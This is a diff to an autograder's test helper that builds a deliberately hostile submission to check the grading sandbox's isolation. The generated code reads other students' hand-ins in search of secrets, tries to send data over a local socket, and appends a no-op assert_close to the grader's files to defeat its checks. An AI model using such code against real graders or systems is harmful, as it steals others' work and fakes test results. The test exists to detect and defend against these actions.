@@ -156,28 +156,45 @@ if os.fork() == 0:
 
 def snooper(grader: Path, inbox: Path, port: int) -> str:
     """Reads other hand-ins (the archives and anything extracted), tries the network, and
-    appends a no-op comparison to the grader's own files."""
+    appends a no-op comparison to the grader's own files; then its ``mul_backward`` fails with
+    what it found (``snooped: read N files ...``, and the text around any secret it saw), so that
+    its report shows what it could reach (a passing test's output is never shown)."""
     return f"""
 import glob, os, socket
-stolen = b""
+read, found, key = [], b"", b"SEC" + b"RET"  # (split, so that its own archive does not match)
 for pattern in [{str(inbox)!r} + "/*", "/tmp/mytorch-*/**/*"]:
     for path in glob.glob(pattern, recursive=True)[:200]:
         try:
             with open(path, "rb") as f:
-                stolen += f.read(100000)
+                data = f.read(4 * 2**20)
         except OSError:
-            pass
-print("STOLEN", stolen[-3000:])
+            continue
+        read.append(os.path.basename(path))
+        if key in data:
+            at = data.index(key)
+            found += data[at - 20 : at + 20]
 try:
     socket.create_connection(("127.0.0.1", {port}), timeout=0.5).sendall(b"STOLEN")
+    network = "reached"
 except OSError as error:
-    print("no network:", error)
+    network = f"unreachable ({{error}})"
+changed = []
 for path in [{str(grader / "autograder" / "checks.py")!r}, {str(grader / "autograder" / "grading.py")!r}]:
     try:
         with open(path, "a") as out:
             out.write("\\ndef assert_close(*args, **kwargs):\\n    return None\\n")
+        changed.append(path)
     except OSError:
         pass
+
+
+def _snooping_mul(grad_output, a, b):
+    raise RuntimeError(f"snooped: read {{len(read)}} files of other hand-ins {{read[:3]}}, found {{found!r}}, "
+                       f"network {{network}}, changed {{len(changed)}} grader files")
+
+
+from mytorch.nn import functional as _functional
+_functional.mul_backward = _snooping_mul
 """
 
 
